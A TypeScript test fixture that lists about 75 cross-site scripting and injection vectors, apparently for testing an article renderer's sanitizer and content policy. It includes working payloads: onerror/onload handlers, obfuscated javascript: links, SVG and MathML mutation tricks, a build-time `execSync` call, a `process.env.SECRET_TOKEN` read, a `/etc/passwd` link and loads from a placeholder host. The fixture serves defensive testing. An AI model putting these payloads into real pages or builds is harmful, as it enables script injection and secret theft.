/** What a hostile author might write. `OTHER` stands for the address of another host, which answers whatever it is asked. */
export interface Vector {
  name: string;
  /** What stands in an article. */
  article: string;
  /** What a browser would have to be given for the attack to succeed, once every check had failed. */
  html: string;
  /**
   * What it does in a browser without a policy: runs a script, loads something from elsewhere or sends something there; `led`
   * only leads the reader away, which no policy can forbid; `nothing` in today's Chromium, in others perhaps.
   */
  does: 'runs' | 'asks' | 'led' | 'nothing';
}

type Row = [name: string, does: Vector['does'], html: string, article?: string];

const rows: Row[] = [
  ['a script', 'runs', '<script>alert(1)</script>'],
  ['a script from elsewhere', 'runs', '<script src="OTHER/a.js"></script>'],
  ['a module from elsewhere', 'runs', '<script type="module" src="OTHER/a.js"></script>'],
  ['a script out of its own address', 'runs', '<script src="data:text/javascript,alert(1)"></script>'],
  ['a script behind other cases and slashes', 'runs', '<ScRiPt/x>alert(1)</sCrIpT>'],
  ['a module of an island from elsewhere', 'runs', '<ff-x data-module="OTHER/a.js">x</ff-x>'],
  [
    'an import',
    'nothing',
    '<script type="importmap">{"imports":{"a":"OTHER/a.js"}}</script>',
    'import a from "OTHER/a.js"\n\n<a />',
  ],
  ['an export', 'nothing', '<script type="text/plain">1</script>', 'export const a = fetch("OTHER")'],
  ['an expression', 'nothing', '<x-y>1</x-y>', '{process.env.SECRET_TOKEN}'],
  [
    'a call at build',
    'nothing',
    '<x-y>2</x-y>',
    '{globalThis.process.mainModule.require("child_process").execSync("id")}',
  ],
  ['an expression in a link', 'nothing', '<a {href}>x</a>', '<a href={"javascript:" + "alert(1)"}>x</a>'],
  ['a spread', 'nothing', '<div {...x}>x</div>', '<Note {...{onclick: "alert(1)"}}>\n\n字\n\n</Note>'],
  ['an image that fails', 'runs', '<img src="x" onerror="alert(1)">'],
  ['an image that fails, without quotes', 'runs', '<img src=x onerror=alert(1)>'],
  ['a picture with a handler', 'runs', '<svg onload="alert(1)"></svg>'],
  ['a script in a picture', 'runs', '<svg><script>alert(1)</script></svg>'],
  ['a script in a picture, from elsewhere', 'runs', '<svg><script href="OTHER/a.js"></script></svg>'],
  ['a link in a picture', 'runs', '<svg><a href="javascript:alert(1)"><text y="20">x</text></a></svg>'],
  [
    'a link in a picture, the old way',
    'runs',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  ],
  [
    'a link that is set later',
    'runs',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  ],
  ['a picture that uses another', 'asks', '<svg><image href="OTHER/a.png"/></svg>'],
  ['a fill from elsewhere', 'nothing', '<svg><rect fill="url(OTHER/a.svg#x)" width="9" height="9"/></svg>'],
  ['HTML in a picture', 'runs', '<svg><foreignObject><img src="x" onerror="alert(1)"></foreignObject></svg>'],
  ['an animation with a handler', 'runs', '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'],
  [
    'a formula with a link',
    'runs',
    '<math><mrow href="javascript:alert(1)"><mi>x</mi></mrow></math><img src="x" onerror="alert(1)">',
  ],
  [
    'HTML in a formula',
    'runs',
    '<math><annotation-xml encoding="text/html"><img src="x" onerror="alert(1)"></annotation-xml></math>',
  ],
  [
    'a style that hides a tag',
    'runs',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;" src="x" onerror="alert(1)">',
  ],
  ['a link', 'runs', '<a href="javascript:alert(1)">x</a>', '[x](javascript:alert(1))'],
  [
    'a link with a tab in its scheme',
    'runs',
    '<a href="java&#9;script:alert(1)">x</a>',
    '[x](java&#9;script:alert(1))',
  ],
  [
    'a link with a control character',
    'runs',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '[x](<&#1;javascript:alert(1)>)',
  ],
  ['a link out of entities', 'runs', '<a href="&#x6a;avascript:alert(1)">x</a>', '[x](&#106;avascript:alert(1))'],
  ['a link in capitals', 'runs', '<a href="JaVaScRiPt:alert(1)">x</a>', '[x](JaVaScRiPt:alert(1))'],
  [
    'a link behind a definition',
    'runs',
    '<a href="javascript:alert(1)" title="t">x</a>',
    '[x][a]\n\n[a]: javascript:alert(1) "t"',
  ],
  [
    'a link to a page of its own',
    'led',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '[x](data:text/html,<script>alert(1)</script>)',
  ],
  ['a link of another age', 'nothing', '<a href="vbscript:MsgBox(1)">x</a>', '[x](vbscript:MsgBox(1))'],
  ['a link to the disk', 'nothing', '<a href="file:///etc/passwd">x</a>', '[x](file:///etc/passwd)'],
  ['an image out of a script', 'nothing', '<img src="javascript:alert(1)" alt="a">', '![a](javascript:alert(1))'],
  ['an image from elsewhere', 'asks', '<img src="OTHER/a.png" alt="a">', '![a](OTHER/a.png)'],
  [
    'an image from elsewhere, without a scheme',
    'nothing',
    '<img src="//other.invalid/a.png" alt="a">',
    '![a](//other.invalid/a.png)',
  ],
  [
    'an image from elsewhere behind a backslash',
    'nothing',
    '<img src="/\\other.invalid/a.png" alt="a">',
    '![a](/\\other.invalid/a.png)',
  ],
  ['an image in a set', 'asks', '<img srcset="OTHER/a.png 1x" alt="a">'],
  ['a frame', 'runs', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a frame with an address', 'runs', '<iframe src="javascript:alert(1)"></iframe>'],
  ['a frame from elsewhere', 'asks', '<iframe src="OTHER/"></iframe>'],
  ['an object', 'asks', '<object data="OTHER/a.html"></object>'],
  ['an embedded page', 'asks', '<embed src="OTHER/a.html">'],
  ['a portal and its kin', 'nothing', '<portal src="OTHER/"></portal>'],
  ['another base', 'asks', '<base href="OTHER/"><img src="a.png" alt="a">'],
  ['a page that leads away', 'led', '<meta http-equiv="refresh" content="0;url=OTHER/">'],
  ['a cookie out of a page', 'nothing', '<meta http-equiv="set-cookie" content="a=b">'],
  ['a style sheet from elsewhere', 'asks', '<link rel="stylesheet" href="OTHER/a.css">'],
  ['a page fetched ahead', 'nothing', '<link rel="prefetch" href="OTHER/a.html">'],
  ['a style', 'asks', '<style>body { background: url(OTHER/a.png) }</style>'],
  ['a style from elsewhere', 'asks', '<style>@import "OTHER/a.css";</style>'],
  [
    'a style of one element',
    'asks',
    '<p style="background:url(OTHER/a.png)">x</p>',
    '<Note style="color: red">\n\n字\n\n</Note>',
  ],
  ['a form', 'asks', '<form action="OTHER/"><button data-click>x</button></form>'],
  ['a form that runs', 'runs', '<form action="javascript:alert(1)"><button data-click>x</button></form>'],
  ['a button with an address', 'runs', '<form><button formaction="javascript:alert(1)" data-click>x</button></form>'],
  ['a link that tells', 'asks', '<a href="#x" ping="OTHER/ping">x</a>'],
  ['a film that fails', 'runs', '<video><source onerror="alert(1)"></video>'],
  ['a film from elsewhere', 'asks', '<video src="OTHER/a.mp4" autoplay muted></video>'],
  ['a poster', 'asks', '<video poster="OTHER/a.png"></video>'],
  ['details that open', 'runs', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
  ['a field that is looked at', 'runs', '<input autofocus onfocus="alert(1)">'],
  ['a marquee', 'nothing', '<marquee onstart="alert(1)">x</marquee>'],
  ['a scroll', 'runs', '<div style="animation: a 1s" onanimationend="alert(1)"></div><img src="x" onerror="alert(1)">'],
  [
    'a template that declares a shadow',
    'runs',
    '<div><template shadowrootmode="open"><img src="x" onerror="alert(1)"></template></div>',
  ],
  ['an element that is another', 'nothing', '<button is="x-y">x</button>'],
  ['an element of somebody else', 'nothing', '<x-other>x</x-other>'],
  ['a comment that ends early', 'runs', '<!--><img src="x" onerror="alert(1)">-->'],
  [
    'a comment',
    'nothing',
    '<!--[if IE]><script>alert(1)</script><![endif]--><bgsound>',
    '<!-- <script>alert(1)</script> -->',
  ],
  ['a section of characters', 'runs', '<![CDATA[><img src="x" onerror="alert(1)">]]>'],
  [
    'an attribute that breaks out',
    'runs',
    '<a title="x" onmouseover="alert(1)" data-hover>x</a>',
    '<Note title="x" onmouseover="alert(1)">\n\n字\n\n</Note>',
  ],
  [
    'an attribute of Astro',
    'nothing',
    '<div set:html="x"></div>',
    '<Note set:html={"<script>alert(1)</script>"}>\n\n字\n\n</Note>',
  ],
  [
    'an attribute of React',
    'nothing',
    '<div dangerouslysetinnerhtml="x"></div>',
    '<div dangerouslySetInnerHTML={{__html: "<b>1</b>"}} />',
  ],
  [
    'a component of Astro',
    'nothing',
    '<fragment set:html="x"></fragment>',
    '<Fragment set:html="<script>alert(1)</script>" />',
  ],
  [
    'a link to what it should not',
    'runs',
    '<a href="javascript:alert(1)" rel="opener">x</a>',
    '<Quote by="a">\n\n> [x](javascript:alert(1))\n\n</Quote>',
  ],
];

export const vectors: Vector[] = rows.map(([name, does, html, article]) => ({
  name,
  does,
  html,
  article: article ?? html,
}));

/** With the address of the other host. */
export const aimedAt = (text: string, other: string): string => text.replaceAll('OTHER', other);
